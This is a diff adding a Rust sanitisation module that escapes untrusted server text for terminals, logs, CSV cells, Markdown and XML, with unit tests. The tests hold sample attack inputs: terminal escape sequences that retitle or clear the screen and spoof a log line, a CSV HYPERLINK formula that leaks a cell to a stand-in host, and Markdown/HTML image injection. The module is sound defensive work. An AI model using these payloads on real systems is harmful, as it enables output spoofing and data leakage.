@@ -1,0 +1,240 @@
+//! Text from outside (a server's error message, a model id, a params file's value) made
+//! inert for the place it is written: one function per destination, used by every writer.
+//!
+//! - [`terminal`]: the console, stderr and log lines. Control characters (C0, DEL, C1)
+//!   and the bidirectional overrides are written as visible escapes (`\x1b`, `\n`,
+//!   `\u{202e}`), so a server can neither move the cursor, retitle or clear the terminal,
+//!   nor start a line of its own that looks like ours.
+//! - [`csv_cell`]: a CSV text cell. A cell a spreadsheet would read as a formula (first
+//!   character `=`, `+`, `-`, `@`, tab or CR) gets a leading `'`, OWASP's advice.
+//! - [`markdown`]: a Markdown table cell or line: every character Markdown or the HTML
+//!   inside it gives a meaning is backslash-escaped, control characters as [`terminal`].
+//! - [`xml`]: XML and SVG text and attributes: the five entities, and the characters
+//!   XML 1.0 forbids (most of C0) as visible escapes, so the document stays well-formed.
+//!
+//! HTML is escaped by its templates (minijinja, auto-escaping `.html` templates).
+//!
+//! Here because workers, the coordinator and the binary all write server text; the crate
+//! is the lowest all three share.
+
+use std::borrow::Cow;
+use std::fmt::Write as _;
+
+/// Whether `c` would do something in a terminal rather than show: C0 controls, DEL, C1
+/// controls, and the Unicode bidirectional overrides and isolates (which reorder what
+/// a reader sees).
+fn acts(c: char) -> bool {
+    c.is_control() || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
+}
+
+/// `c` as a visible escape: `\n`, `\r`, `\t`, `\x1b`, `\u{9b}`.
+fn push_escape(out: &mut String, c: char) {
+    match c {
+        '\n' => out.push_str("\\n"),
+        '\r' => out.push_str("\\r"),
+        '\t' => out.push_str("\\t"),
+        c if (c as u32) < 0x80 => {
+            let _ = write!(out, "\\x{:02x}", c as u32);
+        }
+        c => {
+            let _ = write!(out, "\\u{{{:x}}}", c as u32);
+        }
+    }
+}
+
+/// Text for a terminal or a log line: every control character escaped (newlines
+/// included: one line of server text stays one line).
+pub fn terminal(text: &str) -> Cow<'_, str> {
+    if !text.chars().any(acts) {
+        return Cow::Borrowed(text);
+    }
+    let mut out = String::with_capacity(text.len() + 8);
+    for c in text.chars() {
+        if acts(c) {
+            push_escape(&mut out, c);
+        } else {
+            out.push(c);
+        }
+    }
+    Cow::Owned(out)
+}
+
+/// Like [`terminal`], but keeps line breaks (`\n`): for a block of several lines the
+/// program wrote itself around server text, such as a multi-line message.
+pub fn terminal_lines(text: &str) -> Cow<'_, str> {
+    if !text.chars().any(|c| c != '\n' && acts(c)) {
+        return Cow::Borrowed(text);
+    }
+    let mut out = String::with_capacity(text.len() + 8);
+    for c in text.chars() {
+        if c != '\n' && acts(c) {
+            push_escape(&mut out, c);
+        } else {
+            out.push(c);
+        }
+    }
+    Cow::Owned(out)
+}
+
+/// A CSV text cell that no spreadsheet evaluates: a leading `'` before `=`, `+`, `-`,
+/// `@`, tab or CR. Only for text; numbers are written as numbers.
+pub fn csv_cell(text: &str) -> Cow<'_, str> {
+    match text.chars().next() {
+        Some('=' | '+' | '-' | '@' | '\t' | '\r') => Cow::Owned(format!("'{text}")),
+        _ => Cow::Borrowed(text),
+    }
+}
+
+/// Text for a Markdown table cell or line: Markdown's and HTML's characters
+/// backslash-escaped (no link, image, emphasis, heading, raw HTML or cell break is
+/// possible), control characters (line breaks included) escaped as for [`terminal`].
+pub fn markdown(text: &str) -> Cow<'_, str> {
+    const SPECIAL: &str = "\\`*_{}[]()<>#+-.!|~&\"'=:";
+    if !text.chars().any(|c| acts(c) || SPECIAL.contains(c)) {
+        return Cow::Borrowed(text);
+    }
+    let mut out = String::with_capacity(text.len() + 16);
+    for c in text.chars() {
+        if acts(c) {
+            // `\x1b` would read as an escaped `x`: the backslash itself is escaped.
+            out.push('\\');
+            push_escape(&mut out, c);
+        } else if c == '<' {
+            out.push_str("&lt;");
+        } else if c == '>' {
+            out.push_str("&gt;");
+        } else if c == '&' {
+            out.push_str("&amp;");
+        } else if SPECIAL.contains(c) {
+            out.push('\\');
+            out.push(c);
+        } else {
+            out.push(c);
+        }
+    }
+    Cow::Owned(out)
+}
+
+/// Text for XML or SVG (element text or an attribute value): `& < > " '` as entities,
+/// and the characters XML 1.0 forbids (C0 but tab, LF and CR; U+FFFE, U+FFFF) and DEL
+/// and C1 as visible escapes (`\x1b`).
+pub fn xml(text: &str) -> Cow<'_, str> {
+    let clean = |c: char| {
+        !("&<>\"'".contains(c)
+            || (c.is_control() && !matches!(c, '\t' | '\n' | '\r'))
+            || matches!(c, '\u{fffe}' | '\u{ffff}'))
+    };
+    if text.chars().all(clean) {
+        return Cow::Borrowed(text);
+    }
+    let mut out = String::with_capacity(text.len() + 16);
+    for c in text.chars() {
+        match c {
+            '&' => out.push_str("&amp;"),
+            '<' => out.push_str("&lt;"),
+            '>' => out.push_str("&gt;"),
+            '"' => out.push_str("&quot;"),
+            '\'' => out.push_str("&apos;"),
+            c if clean(c) || matches!(c, '\t' | '\n' | '\r') => out.push(c),
+            c => push_escape(&mut out, c),
+        }
+    }
+    Cow::Owned(out)
+}
+
+/// Text with the characters XML 1.0 forbids (and DEL, C1) made visible escapes, nothing
+/// else changed: for a writer that escapes the entities itself (an SVG library).
+pub fn xml_chars(text: &str) -> Cow<'_, str> {
+    let bad = |c: char| {
+        (c.is_control() && !matches!(c, '\t' | '\n' | '\r')) || matches!(c, '\u{fffe}' | '\u{ffff}')
+    };
+    if !text.chars().any(bad) {
+        return Cow::Borrowed(text);
+    }
+    let mut out = String::with_capacity(text.len() + 8);
+    for c in text.chars() {
+        if bad(c) {
+            push_escape(&mut out, c);
+        } else {
+            out.push(c);
+        }
+    }
+    Cow::Owned(out)
+}
+
+/// `text` cut to at most `max` bytes (on a character boundary), with how much was cut
+/// said at its end: `… [cut: 20971520 bytes in all]`. For text from outside kept in a
+/// record or a report, whose size the server must not choose.
+pub fn bounded(text: &str, max: usize) -> Cow<'_, str> {
+    if text.len() <= max {
+        return Cow::Borrowed(text);
+    }
+    let mut end = max;
+    while !text.is_char_boundary(end) {
+        end -= 1;
+    }
+    Cow::Owned(format!(
+        "{}… [cut: {} bytes in all]",
+        &text[..end],
+        text.len()
+    ))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn terminal_text_shows_every_control_character_and_keeps_the_rest() {
+        assert_eq!(terminal("plain ü 中"), "plain ü 中");
+        assert_eq!(
+            terminal("a\x1b]0;pwned\x07b\r\nall SLOs pass\u{9b}2J\u{202e}x"),
+            "a\\x1b]0;pwned\\x07b\\r\\nall SLOs pass\\u{9b}2J\\u{202e}x"
+        );
+        assert_eq!(terminal_lines("one\ntwo\x1b[2J"), "one\ntwo\\x1b[2J");
+    }
+
+    #[test]
+    fn csv_cells_that_look_like_formulas_become_text() {
+        for f in [
+            "=HYPERLINK(\"http://x/?q=\"&A1,\"click\")",
+            "+1",
+            "-2+3",
+            "@SUM(A1)",
+            "\tx",
+            "\rx",
+        ] {
+            assert_eq!(csv_cell(f), format!("'{f}"), "{f}");
+        }
+        assert_eq!(csv_cell("model-1"), "model-1");
+        assert_eq!(csv_cell(""), "");
+    }
+
+    #[test]
+    fn markdown_text_has_no_link_image_or_html() {
+        let m = markdown("![x](http://e/i.png) [a](b) <img src=x> | *b* \x1b");
+        assert!(!m.contains("]("), "{m}");
+        assert!(!m.contains('<'), "{m}");
+        assert!(!m.contains('\x1b'), "{m}");
+        assert!(m.contains("\\|"), "{m}");
+        assert_eq!(markdown("plain words 12"), "plain words 12");
+    }
+
+    #[test]
+    fn xml_text_is_well_formed() {
+        assert_eq!(
+            xml("a<b>&\"'\x1b\x00\u{fffe}\n"),
+            "a&lt;b&gt;&amp;&quot;&apos;\\x1b\\x00\\u{fffe}\n"
+        );
+        assert_eq!(xml_chars("a<b\x07"), "a<b\\x07");
+    }
+
+    #[test]
+    fn bounded_text_says_how_much_was_cut() {
+        assert_eq!(bounded("short", 10), "short");
+        let long = "é".repeat(10);
+        let cut = bounded(&long, 5);
+        assert!(cut.starts_with("éé…"), "{cut}");
+        assert!(cut.ends_with("[cut: 20 bytes in all]"), "{cut}");
+    }
+}
